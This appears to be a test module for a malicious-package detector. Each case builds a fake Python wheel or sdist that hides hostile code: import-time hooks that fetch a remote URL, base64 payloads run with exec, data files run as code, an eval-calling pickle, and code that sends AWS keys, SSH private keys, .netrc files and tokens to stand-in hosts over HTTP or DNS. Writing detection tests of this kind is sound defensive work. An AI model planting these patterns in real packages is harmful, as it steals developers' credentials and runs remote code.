"""Code that runs at import without being called, and text that is executed from where no one looks."""
import marshal
import pickle

from .package import MARK, attack, b64

URL = "https://cdn.example.net/t"


def hooked(body, use):
    """A class whose method fetches, and what makes Python call it."""
    return f"import urllib.request\n\n\n{body.replace('FETCH', f'urllib.request.urlopen({URL!r})')}\n\n{use}\n"


@attack
def missing_key(p):
    """__missing__ of a dict. Must be held."""
    return p.wheel(init=hooked("class Rows(dict):\n    def __missing__(self, key):\n        return FETCH\n", "FIRST = Rows()['a']"))


@attack
def deleted(p):
    """__del__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __del__(self):\n        FETCH\n", "Rows()"))


@attack
def attribute_asked(p):
    """__getattr__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __getattr__(self, name):\n        return FETCH\n", "FIRST = Rows().first"))


@attack
def class_derived(p):
    """__init_subclass__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __init_subclass__(cls):\n        FETCH\n", "class More(Rows):\n    pass"))


@attack
def class_subscripted(p):
    """__class_getitem__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __class_getitem__(cls, item):\n        return FETCH\n", "ROWS = Rows[int]"))


@attack
def name_set(p):
    """__set_name__ of a descriptor. Must be held."""
    return p.wheel(init=hooked("class Cell:\n    def __set_name__(self, owner, name):\n        FETCH\n",
                               "class Row:\n    first = Cell()"))


@attack
def metaclass(p):
    """__new__ of a metaclass. Must be held."""
    return p.wheel(init=hooked("class Meta(type):\n    def __new__(mcs, name, bases, space):\n        FETCH\n"
                               "        return super().__new__(mcs, name, bases, space)\n",
                               "class Row(metaclass=Meta):\n    pass"))


@attack
def context_entered(p):
    """__enter__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __enter__(self):\n        FETCH\n\n    def __exit__(self, *e):\n        pass\n",
                               "with Rows():\n    pass"))


@attack
def property_read(p):
    """A property. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    @property\n    def first(self):\n        return FETCH\n", "FIRST = Rows().first"))


@attack
def compared(p):
    """__eq__. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __eq__(self, other):\n        return FETCH\n", "SAME = Rows() == 1"))


@attack
def formatted(p):
    """__format__ in an f-string. Must be held."""
    return p.wheel(init=hooked("class Rows:\n    def __format__(self, how):\n        FETCH\n        return ''\n",
                               "TITLE = f'{Rows()}'"))


@attack
def generated(p):
    """A generator that is used up at import. Must be held."""
    return p.wheel(init=hooked("def rows():\n    yield FETCH\n", "ROWS = [r for r in rows()]"))


# --- text that is executed ---

@attack
def decoded_in_a_dictionary(p):
    """What is decoded goes through a dictionary. Must be held."""
    return p.wheel(init=f'''
        import base64

        THEMES = {{"dark": base64.b64decode("{b64(MARK)}")}}
        exec(THEMES["dark"])
        ''')


@attack
def decoded_in_an_instance(p):
    """What is decoded lies in an attribute. Must be held."""
    return p.wheel(init=f'''
        import base64


        class Theme:
            def __init__(self, text):
                self.text = base64.b64decode(text)

            def apply(self):
                exec(self.text)


        Theme("{b64(MARK)}").apply()
        ''')


@attack
def decoded_in_a_sibling(p):
    """Another module has what it decoded in a variable. Must be held."""
    return p.wheel(files={"{m}/blob.py": f'import base64\n\nDATA = base64.b64decode("{b64(MARK)}")\n'},
                   init="from .blob import DATA\n\nexec(DATA)\n")


@attack
def decoded_in_a_sibling_module(p):
    """The same by the module. Must be held."""
    return p.wheel(files={"{m}/blob.py": f'import base64\n\nDATA = base64.b64decode("{b64(MARK)}")\n'},
                   init="from . import blob\n\nexec(blob.DATA)\n")


@attack
def decoded_as_a_global(p):
    """Another function sets the global that is executed. Must be held."""
    return p.wheel(init=f'''
        import base64

        _theme = ""


        def apply():
            exec(_theme)


        def load():
            global _theme
            _theme = base64.b64decode("{b64(MARK)}")


        load()
        apply()
        ''')


@attack
def data_file_executed(p):
    """exec of a file that is no source by its name. Must be held."""
    return p.wheel(files={"{m}/theme.txt": MARK}, init='''
        import os

        exec(open(os.path.join(os.path.dirname(__file__), "theme.txt")).read())
        ''')


@attack
def data_file_compiled(p):
    """compile and exec of such a file. Must be held."""
    return p.wheel(files={"{m}/theme.dat": MARK}, init='''
        import pathlib

        _text = (pathlib.Path(__file__).parent / "theme.dat").read_text()
        exec(compile(_text, "theme", "exec"))
        ''')


@attack
def data_file_run(p):
    """runpy.run_path of such a file. Must be held."""
    return p.wheel(files={"{m}/theme.cfg": MARK}, init='''
        import os
        import runpy

        runpy.run_path(os.path.join(os.path.dirname(__file__), "theme.cfg"))
        ''')


@attack
def data_file_as_module(p):
    """A loader takes such a file for a module. Must be held."""
    return p.wheel(files={"{m}/theme.bin": MARK}, init='''
        import importlib.util
        import os
        from importlib.machinery import SourceFileLoader

        _path = os.path.join(os.path.dirname(__file__), "theme.bin")
        _spec = importlib.util.spec_from_file_location("theme", _path, loader=SourceFileLoader("theme", _path))
        _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
        ''')


@attack
def data_of_pkgutil(p):
    """pkgutil.get_data. Must be held."""
    return p.wheel(files={"{m}/theme.dat": MARK}, init='import pkgutil\n\nexec(pkgutil.get_data(__name__, "theme.dat"))\n')


@attack
def data_of_resources(p):
    """importlib.resources. Must be held."""
    return p.wheel(files={"{m}/theme.dat": MARK}, init='''
        from importlib import resources

        exec(resources.files(__name__).joinpath("theme.dat").read_text())
        ''')


@attack
def function_of_marshal_elsewhere(p):
    """types.FunctionType of marshalled code out of a data file. Must be held."""
    code = marshal.dumps(compile(MARK, "tables", "exec"))
    return p.wheel(files={"{m}/theme.dat": code}, init='''
        import marshal
        import os
        import types

        with open(os.path.join(os.path.dirname(__file__), "theme.dat"), "rb") as f:
            types.FunctionType(marshal.loads(f.read()), globals())()
        ''')


class Armed:
    def __reduce__(self):
        return eval, (MARK,)


@attack
def pickle_shipped(p):
    """A pickle of its own, which calls eval. Must be held."""
    return p.wheel(files={"{m}/theme.dat": pickle.dumps(Armed())}, init='''
        import os
        import pickle

        with open(os.path.join(os.path.dirname(__file__), "theme.dat"), "rb") as f:
            THEME = pickle.load(f)
        ''')


@attack
def setup_executes_text(p):
    """setup.py executes a text of the documentation. Must be held."""
    return p.sdist(files={"docs/conf.txt": MARK}, setup='''
        from setuptools import setup

        exec(open("docs/conf.txt").read())
        setup(name="{n}", version="1.0", packages=["{m}"])
        ''')


# --- local data goes out ---

@attack
def variables_by_names(p):
    """Environment variables as host names. Must be held."""
    return p.wheel(files={"{m}/dns.py": '''
        import os
        import socket


        def check():
            for name in ("AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"):
                socket.getaddrinfo(os.environ[name].lower() + ".t.example.net", 80)
        '''})


@attack
def variables_by_names_extended(p):
    """gethostbyname_ex of a formatted variable. Must be held."""
    return p.wheel(files={"{m}/dns.py": '''
        from os import environ
        from socket import gethostbyname_ex


        def check():
            gethostbyname_ex(f"{environ.get('USER')}.t.example.net")
        '''})


@attack
def credentials_by_pathlib(p):
    """Path.home() / ".aws" / "credentials", sent. Must be held."""
    return p.wheel(files={"{m}/sync.py": '''
        from pathlib import Path
        import requests


        def sync():
            requests.post("https://collect.example.net/s", data=(Path.home() / ".aws" / "credentials").read_bytes())
        '''})


@attack
def credentials_by_join(p):
    """os.path.join of an expanded home. Must be held."""
    return p.wheel(files={"{m}/sync.py": '''
        import os
        import requests


        def sync():
            with open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")) as f:
                requests.post("https://collect.example.net/s", data=f.read())
        '''})


@attack
def credentials_by_expanduser(p):
    """Path("~/.netrc").expanduser(). Must be held."""
    return p.wheel(files={"{m}/sync.py": '''
        import pathlib
        import urllib.request


        def sync():
            urllib.request.urlopen("https://collect.example.net/s", pathlib.Path("~/.netrc").expanduser().read_bytes())
        '''})


@attack
def credentials_formatted(p):
    """An f-string puts the path together. Must be held."""
    return p.wheel(files={"{m}/sync.py": '''
        import os
        import requests


        def sync():
            home, folder, name = os.environ["HOME"], ".aws", "credentials"
            with open(f"{home}/{folder}/{name}") as f:
                requests.post("https://collect.example.net/s", data=f.read())
        '''})
